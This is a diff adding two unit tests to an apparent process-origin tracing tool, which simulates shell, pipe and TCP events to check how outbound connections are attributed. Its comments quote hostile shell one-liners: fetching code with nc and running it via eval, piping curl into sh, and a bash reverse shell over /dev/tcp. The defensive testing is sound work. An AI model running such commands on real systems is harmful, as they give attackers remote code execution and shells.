@@ -561,6 +561,81 @@ static void test_creator_history(void)
 	graph_free(g);
 }
 
+/* `c=$(nc H1 9000); eval "$c"`: the shell keeps the read end of its child's
+ * pipe until the child is done, then runs what it read. A shell that only built
+ * a pipeline between two children (`curl … | sh`) let go of the pipe at once:
+ * what runs next from it has no origin through that pipe. */
+static void test_creator_reads_child(void)
+{
+	struct graph *g = mk(600, 1000);
+	image(g, 70, 1, "/usr/bin/dash", 1 * SEC);
+	mkpipe(g, 70, 3, 4, 960, 2 * SEC);
+	birth(g, 71, 70, 2 * SEC + 1);
+	fdop(g, 71, HT_REC_DUP, 4, 1, 2 * SEC + 2);
+	fdop(g, 71, HT_REC_CLOSE, 3, 0, 2 * SEC + 2);
+	fdop(g, 71, HT_REC_CLOSE, 4, 0, 2 * SEC + 2);
+	image(g, 71, 70, "/usr/bin/nc.openbsd", 2 * SEC + 3);
+	fdop(g, 70, HT_REC_CLOSE, 4, 0, 2 * SEC + 3);
+	connect_tcp(g, 71, 5, 3400, "192.0.2.9", 9000, 2 * SEC + 4);
+	fdop(g, 71, HT_REC_CLOSE, 5, 0, 3 * SEC);
+	ok(g, 71, R(HT_REC_EXIT, 3 * SEC + 1));
+	fdop(g, 70, HT_REC_CLOSE, 3, 0, 3 * SEC + 2); /* EOF: the shell is done reading */
+	birth(g, 72, 70, 4 * SEC);
+	image(g, 72, 70, "/usr/bin/nc.openbsd", 4 * SEC + 1);
+	connect_tcp(g, 72, 3, 3401, "198.51.100.3", 22, 4 * SEC + 2);
+	CHECK_CHAINS(g, 72, 3401, 5 * SEC, "192.0.2.9:nc.openbsd,dash,nc.openbsd");
+
+	image(g, 80, 1, "/usr/bin/bash", 1 * SEC);
+	mkpipe(g, 80, 3, 4, 961, 2 * SEC);
+	birth(g, 81, 80, 2 * SEC + 1); /* curl: stdout = the write end */
+	fdop(g, 81, HT_REC_DUP, 4, 1, 2 * SEC + 2);
+	fdop(g, 81, HT_REC_CLOSE, 3, 0, 2 * SEC + 2);
+	fdop(g, 81, HT_REC_CLOSE, 4, 0, 2 * SEC + 2);
+	image(g, 81, 80, "/usr/bin/curl", 2 * SEC + 3);
+	birth(g, 82, 80, 2 * SEC + 4); /* sh: stdin = the read end */
+	fdop(g, 82, HT_REC_DUP, 3, 0, 2 * SEC + 5);
+	fdop(g, 82, HT_REC_CLOSE, 3, 0, 2 * SEC + 5);
+	fdop(g, 82, HT_REC_CLOSE, 4, 0, 2 * SEC + 5);
+	image(g, 82, 80, "/usr/bin/dash", 2 * SEC + 6);
+	fdop(g, 80, HT_REC_CLOSE, 4, 0, 2 * SEC + 7);
+	fdop(g, 80, HT_REC_CLOSE, 3, 0, 2 * SEC + 7);
+	connect_tcp(g, 81, 5, 3500, "192.0.2.7", 80, 2 * SEC + 8);
+	fdop(g, 81, HT_REC_CLOSE, 5, 0, 3 * SEC);
+	ok(g, 81, R(HT_REC_EXIT, 3 * SEC + 1));
+	ok(g, 82, R(HT_REC_EXIT, 3 * SEC + 2));
+	birth(g, 83, 80, 4 * SEC);
+	image(g, 83, 80, "/usr/bin/ssh", 4 * SEC + 1);
+	connect_tcp(g, 83, 3, 3501, "198.51.100.3", 22, 4 * SEC + 2);
+	CHECK_CHAINS(g, 83, 3501, 5 * SEC, "h2:ssh");
+	graph_free(g);
+}
+
+/* a reverse shell (`bash -i >& /dev/tcp/H1/4444`) whose start-up ran
+ * `$(stat …)` in a subshell that inherited the connection: the connection is
+ * reported on the direct path (bash holds it), not through the pipe it read */
+static void test_direct_path_first(void)
+{
+	struct graph *g = mk(600, 1000);
+	image(g, 90, 1, "/usr/bin/bash", 1 * SEC);
+	connect_tcp(g, 90, 0, 3600, "192.0.2.9", 4444, 1 * SEC + 1);
+	mkpipe(g, 90, 3, 4, 970, 2 * SEC);
+	birth(g, 91, 90, 2 * SEC + 1); /* the $(...) subshell: has the connection too */
+	fdop(g, 91, HT_REC_DUP, 4, 1, 2 * SEC + 2);
+	fdop(g, 91, HT_REC_CLOSE, 3, 0, 2 * SEC + 2);
+	fdop(g, 91, HT_REC_CLOSE, 4, 0, 2 * SEC + 2);
+	fdop(g, 90, HT_REC_CLOSE, 4, 0, 2 * SEC + 2);
+	birth(g, 92, 91, 2 * SEC + 3);
+	image(g, 92, 91, "/usr/bin/stat", 2 * SEC + 4);
+	ok(g, 92, R(HT_REC_EXIT, 2 * SEC + 5));
+	ok(g, 91, R(HT_REC_EXIT, 2 * SEC + 6));
+	fdop(g, 90, HT_REC_CLOSE, 3, 0, 2 * SEC + 7);
+	birth(g, 93, 90, 3 * SEC);
+	image(g, 93, 90, "/usr/bin/nc.openbsd", 3 * SEC + 1);
+	connect_tcp(g, 93, 5, 3601, "198.51.100.3", 22, 3 * SEC + 2);
+	CHECK_CHAINS(g, 93, 3601, 4 * SEC, "192.0.2.9:bash,nc.openbsd");
+	graph_free(g);
+}
+
 static void test_local_origin(void)
 {
 	struct graph *g = mk(600, 1000);
@@ -851,7 +926,8 @@ T_MAIN("graph", T(test_ssh_then_ssh), T(test_reflatten_upstream), T(test_pipe_re
        T(test_no_spurious_origin), T(test_daemonised_after_session),
        T(test_creator_ended_before_birth_seen), T(test_hub_children_not_sources),
        T(test_same_end_not_sources), T(test_recent_history), T(test_departed_feeder),
-       T(test_creator_history),
+       T(test_creator_history), T(test_creator_reads_child),
+       T(test_direct_path_first),
        T(test_local_origin), T(test_local_origin_feeders), T(test_local_origin_feeder_once), T(test_pid_reuse), T(test_retention_and_bounds),
        T(test_forged_creator_contradiction), T(test_records_older_than_proc_read), T(test_probe_keeps_tcp_peers), T(test_reconnect_after_failure),
        T(test_memory_per_10k))
